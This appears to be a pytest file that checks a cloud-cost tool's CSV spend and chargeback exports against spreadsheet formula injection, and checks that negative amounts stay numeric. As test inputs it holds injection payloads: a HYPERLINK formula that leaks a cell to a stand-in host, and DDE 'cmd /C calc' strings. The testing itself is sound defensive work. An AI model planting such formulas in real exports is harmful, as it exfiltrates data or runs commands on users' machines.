"""Every CSV export is safe to open in a spreadsheet: billing text never becomes a formula.

Cells of text that start with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading `'`
(OWASP's CSV injection rule); amounts stay numbers, negative ones included.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal
from pathlib import Path

import pandas
import pytest

from bot.cli import main
from bot.cli.chargeback_cmd import render_chargeback
from bot.money import CostBasis
from bot.periods import month_period
from bot.spend.chargeback import Chargeback, TeamCharge
from tests.support.cli import import_registry_file, write_focus_rows
from tests.support.sample_registry import REGISTRY

HOSTILE = {
    "resource": '=HYPERLINK("http://x.example/?leak="&A1,"open")',
    "service": "+SUM(1,2)",
    "tag": "@cmd|' /C calc'!A0",
    "region": "-2+3",
}


def hostile_focus_file(path: Path) -> None:
    """Write a FOCUS export: a day of spend whose text fields are spreadsheet formulas, and a
    credit (a negative cost) for the same resource."""
    write_focus_rows(
        path,
        (
            {
                "BilledCost": cost,
                "EffectiveCost": cost,
                "ListCost": cost,
                "ChargePeriodStart": f"{dt.date(2024, 9, 2 + n)} 10:00:00",
                "ChargePeriodEnd": f"{dt.date(2024, 9, 2 + n)} 11:00:00",
                "ResourceId": HOSTILE["resource"],
                "ServiceName": HOSTILE["service"],
                "RegionId": HOSTILE["region"],
                "Id": str(900000 + n),
                "Tags": json.dumps({"ml:model": HOSTILE["tag"]}),
            }
            for n, cost in enumerate(("40.00", "-12.50"))
        ),
    )


def assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):  # only a number may start with a minus
            Decimal(cell)


def test_report_spend_csv_neutralises_billing_text_and_keeps_numbers(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = import_registry_file(database_url, tmp_path, REGISTRY)
    export = tmp_path / "focus.csv"
    hostile_focus_file(export)
    assert main([*db, "ingest", "focus", str(export)]) == 0
    capsys.readouterr()
    args = ["report", "spend", "--month", "2024-09", "--by", "resource,service,tag,region,day"]
    assert main([*db, *args, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    lines = rows[1:]
    assert len(lines) == 2 and all(len(r) == len(rows[0]) for r in rows)  # one table
    for line in lines:
        assert line[:4] == [f"'{HOSTILE[k]}" for k in ("resource", "service", "tag", "region")]
        assert_no_formula(line)
    assert sorted(Decimal(line[6]) for line in lines) == [Decimal("-12.5"), Decimal(40)]
    # pandas reads it as it is, and its lines add up to the total
    frame = pandas.read_csv(io.StringIO(out), dtype=str)
    assert list(frame.columns) == [*args[-1].split(","), "currency", "cost", "gpu_hours"]
    assert sum(Decimal(v) for v in frame["cost"]) == Decimal("27.5")
    assert main([*db, *args, "--format", "csv", "--totals"]) == 0
    totals = pandas.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
    [record] = totals.to_dict("records")
    assert (record["period"], record["basis"], record["currency"]) == ("2024-09", "billed", "USD")
    amounts = {k: Decimal(v) for k, v in record.items() if k not in ("period", "basis", "currency")}
    assert amounts == {
        "total": Decimal("27.5"),
        "billed": Decimal("27.5"),
        "effective": Decimal("27.5"),
        "attributed": 0,
        "unallocated": Decimal("27.5"),
        "idle": 0,
    }


def test_chargeback_csv_neutralises_team_names_and_keeps_negative_amounts() -> None:
    charge = Chargeback(
        period=month_period("2026-11"),
        currency="USD",
        basis=CostBasis.BILLED,
        methods={},
        teams=[
            TeamCharge(
                "=cmd|' /C calc'!A0",
                {
                    "direct": Decimal("-5.00"),
                    "unallocated": Decimal("1.00"),
                    "idle": Decimal(0),
                    "support": Decimal(0),
                    "tax": Decimal(0),
                },
            ),
            TeamCharge(
                "\tranking",
                {
                    "direct": Decimal("10.00"),
                    "unallocated": Decimal(0),
                    "idle": Decimal(0),
                    "support": Decimal(0),
                    "tax": Decimal(0),
                },
            ),
        ],
        exact_total=Decimal("6.00"),
    )
    out = render_chargeback([charge], "csv")
    rows = list(csv.reader(io.StringIO(out)))
    teams = rows[1:]
    assert all(len(r) == len(rows[0]) for r in rows)  # one table, no blank line
    assert [r[2] for r in teams] == ["'=cmd|' /C calc'!A0", "'\tranking"]
    assert teams[0][3] == "-5.00"  # a credit stays a number
    for row in rows:
        assert_no_formula(row)
    frame = pandas.read_csv(io.StringIO(out), dtype=str)
    assert sum(Decimal(v) for v in frame["total"]) == charge.total
    totals = pandas.read_csv(io.StringIO(render_chargeback([charge], "csv", totals=True)))
    assert list(totals.columns) == [
        "month",
        "currency",
        "direct",
        "unallocated",
        "idle",
        "support",
        "tax",
        "shared",
        "total",
    ]
    assert Decimal(str(totals["total"][0])) == charge.total


def test_totals_go_with_csv_only(
    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = import_registry_file(database_url, tmp_path, REGISTRY)
    capsys.readouterr()
    for command in (["report", "spend"], ["report", "chargeback"]):
        assert main([*db, *command, "--totals"]) == 2
        assert "--totals goes with --format csv" in capsys.readouterr().err
